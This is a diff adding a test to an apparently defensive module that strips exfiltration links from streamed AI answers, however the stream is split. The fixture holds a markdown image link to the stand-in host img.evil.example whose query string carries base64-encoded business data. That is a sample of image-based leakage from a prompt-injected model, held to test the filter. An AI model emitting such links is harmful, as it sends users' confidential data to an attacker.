@@ -177,3 +177,28 @@ def test_the_held_out_batch_stays_above_what_it_scored_once():
     counts, _, _ = measure(Ours(), samples(heldout=True))
     precision, recall = pr(counts["all"])
     assert precision >= 0.65 and recall >= 0.2, (precision, recall)
+
+
+def test_a_streamed_answer_loses_its_exfiltration_link_wherever_the_stream_is_cut():
+    """dlp.injection.LinkStripper through dlp.answer.StreamedAnswer: a link still being written is held back until
+    it is whole, so a URL cut into many events is judged and removed whole; the rest comes through unchanged."""
+    import json
+
+    from dlp.answer import StreamedAnswer
+    from dlp.injection import LINK_REMOVED, LinkStripper
+
+    text = ("Summary: revenue up.\n\n![x](https://img.evil.example/p.gif?d=UTMgcmV2ZW51ZSA0LjJNLCBsYXlvZmZz) "
+            "[docs](https://docs.python.org/3/) [1] done")
+
+    def event(piece: str) -> bytes:
+        return b"data: " + json.dumps({"choices": [{"index": 0, "delta": {"content": piece}}]}).encode() + b"\n\n"
+
+    for size in (1, 4, 9):
+        stream = b"".join(event(text[i:i + size]) for i in range(0, len(text), size)) + b"data: [DONE]\n\n"
+        stripper = LinkStripper()
+        answer = StreamedAnswer(stripper)
+        out = b"".join(answer.feed(stream[i:i + 5]) for i in range(0, len(stream), 5)) + answer.finish()
+        got = "".join(json.loads(block[6:])["choices"][0]["delta"]["content"]
+                      for block in out.split(b"\n\n") if block.startswith(b"data: {"))
+        assert got == text.replace("https://img.evil.example/p.gif?d=UTMgcmV2ZW51ZSA0LjJNLCBsYXlvZmZz", LINK_REMOVED)
+        assert stripper.removed == 1
